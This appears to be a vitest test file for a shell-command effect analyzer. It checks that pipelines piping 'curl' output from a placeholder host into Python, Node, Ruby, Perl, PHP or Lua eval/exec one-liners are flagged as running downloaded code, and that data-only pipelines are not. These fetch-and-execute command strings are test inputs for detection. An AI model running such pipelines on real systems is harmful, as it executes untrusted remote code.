import { expect, test } from 'vitest'
import { effectLines } from '../testing/effect-lines.ts'

const fetched = 'execute:download standard input as'

test.each([
  ['python3 -c "import sys; exec(sys.stdin.read())"', 'python'],
  ['python3 -c "import sys; code = sys.stdin.read(); exec(code)"', 'python'],
  ['python3 -c "import sys, os; os.system(sys.stdin.read())"', 'shell'],
  ["python3 -c \"import sys, subprocess; subprocess.run(['sh', '-c', sys.stdin.read()])\"", 'shell'],
  ['python3 -c "import sys, os\nfor line in sys.stdin: os.system(line)"', 'shell'],
  ["node -e \"eval(require('fs').readFileSync(0, 'utf8'))\"", 'javascript'],
  ["node -e \"let s = ''; process.stdin.on('data', d => s += d).on('end', () => eval(s))\"", 'javascript'],
  ["ruby -e 'eval STDIN.read'", 'ruby'],
  ["ruby -e 'STDIN.each_line { |line| system(line) }'", 'shell'],
  ['perl -e \'eval join "", <STDIN>\'', 'perl'],
  ['php -r \'eval(file_get_contents("php://stdin"));\'', 'php'],
  ['lua -e \'load(io.read("*a"))()\'', 'lua'],
])('what is fetched runs, where code runs its input: %s', (command, language) => {
  expect(effectLines(`curl -s https://x.example/a | ${command}`)).toContain(`${fetched} ${language}`)
})

test.each([
  'python3 -c "import sys, json; print(json.load(sys.stdin))"',
  'python3 -c "import sys, re; print(re.compile(\'a\').findall(sys.stdin.read()))"',
  "python3 -c \"import sys, subprocess; subprocess.run(['jq', '.'], input=sys.stdin.read())\"",
  "node -e \"const s = require('fs').readFileSync(0, 'utf8'); console.log(/a/.exec(s))\"",
  "ruby -rjson -e 'puts JSON.load(STDIN)'",
])('what is fetched is data: %s', (command) => {
  expect(effectLines(`curl -s https://x.example/a | ${command}`).filter((line) => line.startsWith('execute'))).toEqual([])
})

test('text that the line itself says is looked at', () => {
  expect(effectLines('echo \'import os; os.remove("a")\' | python3 -c "import sys; exec(sys.stdin.read())"')).toContain('delete a')
})
